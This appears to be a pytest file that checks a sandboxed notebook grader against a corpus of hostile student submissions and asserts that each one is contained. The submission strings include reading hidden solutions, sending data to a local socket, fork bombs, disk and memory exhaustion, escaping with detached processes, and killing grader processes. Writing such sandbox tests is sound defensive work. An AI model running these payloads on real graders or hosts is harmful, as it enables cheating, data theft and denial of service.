"""The hostile-submission corpus: one batch, graded by `cnncourse grade` with the sandbox on.

Each case tries one way to get points without the work, or to harm the grader, the
machine or the other submissions. Each one asserts its score and the reason its feedback
gives; the batch must complete, and the honest submissions in it must score exactly what
they score when graded alone. The batch runs once (module fixture) through the command
line, so a submission that kills the grader would show as a failed command.
"""

from __future__ import annotations

import csv
import json
import shutil
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from cnncourse.grading.grade import grade_notebook
from cnncourse.grading.runner import Limits

from .grading_helpers import CONV, CONV_MAX, CONV_SOURCE, answered, save, source_of

MARKER = "cnncourse-hostile-detached"
# The per-cell wall-clock limit is well above the CPU-time limit, so that the CPU limit is
# what stops the "spins-cpu" case even on a busy machine: with 20 s, a kernel that gets
# less than 40 % of a core reaches the wall limit first (seen once in `make test` with
# other test runs beside it).
LIMIT_ARGS = [
    "--timeout",
    "60",
    "--notebook-timeout",
    "150",
    "--memory",
    "2G",
    "--cpu-time",
    "8",
    "--processes",
    "64",
    "--open-files",
    "256",
    "--file-size",
    "16M",
    "--disk",
    "64M",
]
LIMITS = Limits(
    cell_timeout=60,
    notebook_timeout=150,
    memory_mb=2048,
    cpu_seconds=8,
    processes=64,
    open_files=256,
    file_size_mb=16,
    disk_mb=64,
    sandbox="on",
)

# Honest answers to put after the hostile code. Max pooling stands alone (worth 2 points):
# the cases whose hostile code fails put it there, so the other cells keep their points.
OUTPUT_SIZE = source_of(answered(), "output-size")
MAX_POOL = source_of(answered(), "max-pool-forward")


def _hostile_cases(ctx: dict) -> dict[str, dict[str, str]]:
    """student -> the solution cells they replace (grade_id with _ for -)."""
    fs_walk = """
import os
found = []
for dirpath, dirnames, filenames in os.walk("/"):
    if dirpath.startswith(("/proc", "/sys", "/dev")):
        dirnames[:] = []
        continue
    for name in filenames:
        if name.endswith(".ipynb"):
            try:
                with open(os.path.join(dirpath, name), errors="ignore") as f:
                    if "BEGIN HIDDEN " + "TESTS" in f.read():
                        found.append(os.path.join(dirpath, name))
            except OSError:
                pass
if not found:
    raise RuntimeError("no notebook with hidden tests is visible")
"""
    return {
        "delegates": {
            "conv2d_forward": (
                "from cnncourse.nn import functional as F\n\n"
                "def conv2d_forward(x, w, b, stride=1, padding=0):\n"
                "    return F.conv2d_forward(x, w, b, stride=stride, padding=padding)[0]\n"
            )
        },
        "reads-solutions": {
            "max_pool_forward": (
                "import json, pathlib, cnncourse\n"
                "root = pathlib.Path(cnncourse.__file__).resolve().parents[1]\n"
                f"nb = json.loads((root / 'solutions' / {CONV!r}).read_text())\n"
                "for cell in nb['cells']:\n"
                "    if cell.get('metadata', {}).get('nbgrader', {}).get('solution'):\n"
                "        exec(''.join(cell['source']))\n"
            )
        },
        "walks-file-system": {"max_pool_forward": fs_walk + "\n" + MAX_POOL},
        "reads-other-submissions": {
            "max_pool_forward": (
                "import glob\n"
                f"others = glob.glob({str(ctx['subs'])!r} + '/*.ipynb') + glob.glob('../*.ipynb')\n"
                "others += glob.glob('../../**/*.ipynb', recursive=True)\n"
                "if not [p for p in others if 'honest' in p]:\n"
                "    raise RuntimeError(f'no other submission visible ({len(others)} notebooks)')\n"
                + MAX_POOL
            )
        },
        "phones-home": {
            "max_pool_forward": (
                "import socket\n"
                f"with socket.create_connection(('127.0.0.1', {ctx['port']}), timeout=5) as s:\n"
                "    s.sendall(b'the hidden tests are ...')\n\n" + MAX_POOL
            )
        },
        "detaches": {
            "output_size": (
                "import os, subprocess, sys\n"
                "subprocess.Popen([sys.executable, '-c', 'import time\\nwhile True: time.sleep(0.2)',"
                f" {MARKER!r}], start_new_session=True, stdout=subprocess.DEVNULL,"
                " stderr=subprocess.DEVNULL)\n"
                "if os.fork() == 0:\n"
                "    os.setsid()\n"
                f"    os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(600)', "
                f"{MARKER!r}])\n\n" + OUTPUT_SIZE
            )
        },
        "writes-outside": {
            "output_size": (
                "import os\nwritten = []\n"
                f"for path in {[str(p) for p in ctx['outside']]!r} + ['../../pwned.txt']:\n"
                "    try:\n"
                "        with open(path, 'w') as f:\n"
                "            f.write('pwned')\n"
                "        written.append(path)\n"
                "    except OSError:\n"
                "        pass\n\n" + OUTPUT_SIZE
            )
        },
        "hogs-memory": {
            "max_pool_forward": (
                "def max_pool_forward(x, pool_size=2, stride=None):\n"
                "    hog = np.ones(3 * 2**30 // 8)  # 3 GiB\n"
                "    return hog[:1]\n"
            )
        },
        "forks": {
            "max_pool_forward": (
                "import os, time\n"
                "for _ in range(2000):\n"
                "    if os.fork() == 0:\n"
                "        time.sleep(60)\n"
                "        os._exit(0)\n\n" + MAX_POOL
            )
        },
        "fills-disk": {
            "max_pool_forward": (
                "chunk = b'x' * 2**20\n"
                "for i in range(128):  # up to 1 GiB in files of 8 MiB\n"
                "    with open(f'fill-{i}.bin', 'wb') as f:\n"
                "        for _ in range(8):\n"
                "            f.write(chunk)\n\n" + MAX_POOL
            )
        },
        "huge-file": {
            "max_pool_forward": (
                "with open('/tmp/huge.bin', 'wb') as f:\n"
                "    for _ in range(32):  # 32 MiB in one file\n"
                "        f.write(b'x' * 2**20)\n\n" + MAX_POOL
            )
        },
        "spins-cpu": {"max_pool_forward": "while True:\n    pass\n\n" + MAX_POOL},
        "kills-grader": {
            "output_size": (
                "import os, signal\n"
                "for pid in [p for p in os.listdir('/proc') if p.isdigit()]:\n"
                "    try:\n"
                "        with open(f'/proc/{pid}/cmdline', 'rb') as f:\n"
                "            cmd = f.read()\n"
                "    except OSError:\n"
                "        continue\n"
                "    if int(pid) != os.getpid() and any(w in cmd for w in (b'cnncourse', b'pytest',"
                " b'jupyter', b'bwrap')):\n"
                "        try:\n"
                "            os.kill(int(pid), signal.SIGKILL)\n"
                "        except OSError:\n"
                "            pass\n"
                "for pid in (os.getppid(), 1):\n"
                "    try:\n"
                "        os.kill(pid, signal.SIGKILL)\n"
                "    except OSError:\n"
                "        pass\n\n" + OUTPUT_SIZE
            )
        },
    }


# student -> (expected score, phrases its feedback must contain)
EXPECTED = {
    "honest-a": (CONV_MAX, []),
    "honest-b": (CONV_MAX, []),
    "delegates": (3, ["conv2d_forward called cnncourse.nn.functional.conv2d_forward", "write it yourself"]),
    "reads-solutions": (4, ["Your cell 'max-pool-forward' raised FileNotFoundError"]),
    "walks-file-system": (4, ["RuntimeError: no notebook with hidden tests is visible"]),
    "reads-other-submissions": (4, ["RuntimeError: no other submission visible"]),
    "phones-home": (4, ["Your cell 'max-pool-forward' raised ConnectionRefusedError"]),
    "detaches": (CONV_MAX, []),
    "writes-outside": (CONV_MAX, []),
    "hogs-memory": (4, ["The memory limit of 2 GiB was reached while this test ran"]),
    "forks": (4, ["the limit of 64 processes and threads was reached (BlockingIOError)"]),
    "fills-disk": (4, ["the sandbox's 64 MiB of disk space ran out"]),
    "huge-file": (4, ["the file size limit of 16 MiB was reached"]),
    "spins-cpu": (4, ["the CPU time limit of 8 s was reached; the notebook ran again without it"]),
    "kills-grader": (CONV_MAX, []),
}


class _Listener:
    """A TCP server on 127.0.0.1 that counts the connections it accepts."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        self.sock.settimeout(0.5)
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.accepted += 1
            conn.close()

    def close(self):
        self.stop = True
        self.thread.join(2)
        self.sock.close()


def _detached_alive() -> list[int]:
    alive = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if MARKER.encode() in (entry / "cmdline").read_bytes():
                    alive.append(int(entry.name))
            except OSError:
                pass
    return alive


@pytest.fixture(scope="module")
def corpus(tmp_path_factory, sandbox_ready):
    root = tmp_path_factory.mktemp("hostile")
    subs, out = root / "subs", root / "out"
    source_dir = root / "instructor"
    source_dir.mkdir()
    source = Path(shutil.copy(CONV_SOURCE, source_dir / CONV))
    outside = [
        out / "pwned.txt",
        source_dir / "pwned.txt",
        subs / "pwned.txt",
        Path("/root/cnncourse-pwned.txt"),
        Path("/tmp/cnncourse-pwned.txt"),
    ]
    listener = _Listener()
    ctx = {"subs": subs, "port": listener.port, "outside": outside}
    honest = answered()
    save(honest, subs / "honest-a.ipynb")
    save(honest, subs / "honest-b.ipynb")
    for student, cells in _hostile_cases(ctx).items():
        save(answered(**cells), subs / f"{student}.ipynb")
    alone = grade_notebook(source, subs / "honest-a.ipynb", "alone", LIMITS)
    try:
        run = subprocess.run(
            [
                sys.executable,
                "-m",
                "cnncourse.cli",
                "grade",
                "--source",
                str(source),
                str(subs),
                "--out",
                str(out),
                "--jobs",
                "2",
                "--sandbox",
                "on",
                *LIMIT_ARGS,
            ],
            capture_output=True,
            text=True,
            timeout=900,
        )
    finally:
        listener.close()
    results = {}
    for path in sorted((out / "results").glob("*.json")):
        data = json.loads(path.read_text())
        results[data["extra_data"]["student"]] = data
    yield {
        "run": run,
        "out": out,
        "results": results,
        "alone": alone,
        "outside": outside,
        "accepted": listener.accepted,
        "detached": _detached_alive(),
    }
    for path in outside:
        path.unlink(missing_ok=True)


def _feedback(data: dict) -> str:
    return "\n".join([data["output"]] + [t["output"] for t in data["tests"]])


@pytest.mark.slow
def test_the_batch_completes_with_one_row_per_submission(corpus):
    assert corpus["run"].returncode == 0, corpus["run"].stderr[-3000:]
    assert "sandbox: bubblewrap" in corpus["run"].stdout
    with (corpus["out"] / "gradebook.csv").open() as f:
        rows = list(csv.DictReader(f))
    assert sorted(r["student"] for r in rows) == sorted(EXPECTED)
    assert all(r["status"] == "graded" for r in rows), rows


@pytest.mark.slow
@pytest.mark.parametrize("student", list(EXPECTED))
def test_each_case_gets_its_score_and_reason(corpus, student):
    data = corpus["results"][student]
    score, phrases = EXPECTED[student]
    feedback = _feedback(data)
    assert data["score"] == pytest.approx(score), feedback
    for phrase in phrases:
        assert phrase in feedback, feedback


@pytest.mark.slow
def test_honest_submissions_score_as_when_graded_alone(corpus):
    alone = [t.points for t in corpus["alone"].tests]
    assert sum(alone) == CONV_MAX
    for student in ("honest-a", "honest-b"):
        assert [t["score"] for t in corpus["results"][student]["tests"]] == alone


@pytest.mark.slow
def test_nothing_left_the_sandbox(corpus):
    assert corpus["accepted"] == 0, "a kernel reached a server on the grader's 127.0.0.1"
    assert corpus["detached"] == [], "a process started by a submission outlived grading"
    for path in corpus["outside"]:
        assert not path.exists(), f"a submission wrote {path}"
    assert not (corpus["out"].parent / "pwned.txt").exists()


@pytest.mark.slow
def test_every_report_records_the_sandbox(corpus):
    for data in corpus["results"].values():
        assert data["extra_data"]["sandbox"] == "bubblewrap"
    assert "bubblewrap" in (corpus["out"] / "gradebook.csv").read_text()


def test_sandbox_on_stops_before_grading_when_bubblewrap_cannot_run(tmp_path, monkeypatch):
    from cnncourse import cli
    from cnncourse.grading import sandbox

    monkeypatch.setattr(sandbox, "problem", lambda: "bwrap is not installed: install it")
    save(answered(), tmp_path / "subs" / "alice.ipynb")
    code = cli.main(
        [
            "grade",
            "--source",
            str(CONV_SOURCE),
            str(tmp_path / "subs"),
            "--out",
            str(tmp_path / "out"),
            "--sandbox",
            "on",
            "-q",
        ]
    )
    assert code == 2
    assert not (tmp_path / "out").exists()
